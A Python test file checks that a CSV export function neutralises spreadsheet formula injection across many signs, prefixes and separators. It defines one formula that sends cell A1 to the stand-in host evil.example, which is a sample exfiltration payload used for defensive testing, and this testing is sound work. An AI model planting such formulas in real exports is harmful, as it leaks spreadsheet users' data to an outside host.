"""CSV that a spreadsheet can open without running what strangers wrote into it."""

import csv
import io

import pytest

from imageferry.catalog.jobs.csv_rows import csv_rows

FORMULA = '=HYPERLINK("http://evil.example?" & A1)'


@pytest.mark.parametrize("sign", "=+-@\uff1d\uff0b\uff0d\uff20")
@pytest.mark.parametrize("before", ["", " ", "\t", '"', "' ", "\xa0", "\u200b", "\ufeff", "\r", '"\n" '])
@pytest.mark.parametrize("separator", ["", ",", ";", "|", "\t", "\n", "\r\n", "\u2028"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits(separator: str, before: str, sign: str) -> None:
    text = csv_rows([[f"a{separator}" if separator else "", f"{'a' if separator else ''}{separator}{before}{sign}1"]])
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(text.decode(), newline=""), delimiter=delimiter, quoting=quoting):
                for cell in row:
                    assert not cell.strip('"\u200b\ufeff \xa0\t\r\n\u2028').startswith(sign)


def test_ordinary_values_are_quoted_and_unchanged() -> None:
    row = ["a-b@c=d.jpg", 'say "hi"', "x; y", "1 - 2", "é\nf"]
    text = csv_rows([[*row, 42, None]])
    assert next(csv.reader(io.StringIO(text.decode(), newline=""))) == [*row, "42", ""]
    assert text.startswith(b'"a-b@c=d.jpg","say ""hi""",')
    assert text.endswith(b',42,""\r\n')


def test_the_whole_of_a_value_stays_readable() -> None:
    assert csv_rows([[FORMULA, "-1;+2"]]) == b'"\'=HYPERLINK(""http://evil.example?"" & A1)","\'-1;\'+2"\r\n'
